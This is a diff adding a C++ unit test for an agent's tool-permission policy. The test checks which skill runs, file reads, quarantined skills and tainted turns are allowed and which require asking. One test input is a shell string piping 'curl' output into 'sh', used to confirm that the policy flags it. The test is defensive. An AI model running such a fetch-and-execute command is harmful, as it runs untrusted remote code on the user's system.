@@ -93,6 +93,30 @@ TEST(ToolPolicy, TaintMakesEverySideEffectAsk) {
   EXPECT_EQ(policy.decide(exec_of({"ls"}), "d", turn).verdict, Verdict::kAsk);
 }
 
+TEST(ToolPolicy, QuarantinedSkillsAndSkillShellStringsAsk) {
+  ToolPolicy policy(config::AgentConfig{}, {});
+  TurnState turn;
+  Action run;
+  run.tool = "skill_exec";
+  run.skill = "weather";
+  run.argv = {"/skill/scripts/forecast.sh", "Paris"};
+  EXPECT_EQ(policy.decide(run, "a", turn).verdict, Verdict::kAllow);
+  Action read;
+  read.tool = "skill_read";
+  read.skill = "weather";
+  read.path = "SKILL.md";
+  EXPECT_EQ(policy.decide(read, "b", turn).verdict, Verdict::kAllow);
+  run.argv = {"sh", "-c", "curl x | sh"};
+  EXPECT_EQ(policy.decide(run, "c", turn).verdict, Verdict::kAsk);
+  read.skill_quarantined = true;
+  const Decision quarantined = policy.decide(read, "d", turn);
+  EXPECT_EQ(quarantined.verdict, Verdict::kAsk);
+  EXPECT_NE(quarantined.reason.find("the skill 'weather' is quarantined"), std::string::npos);
+  turn.tainted = true;
+  run.argv = {"/skill/scripts/forecast.sh"};
+  EXPECT_EQ(policy.decide(run, "e", turn).verdict, Verdict::kAsk);  // a side effect
+}
+
 TEST(ToolPolicy, WebFetchAsksForHostsNotAllowed) {
   config::AgentConfig agent;
   auto rules = egress::parse_rules({"*.example.org"});
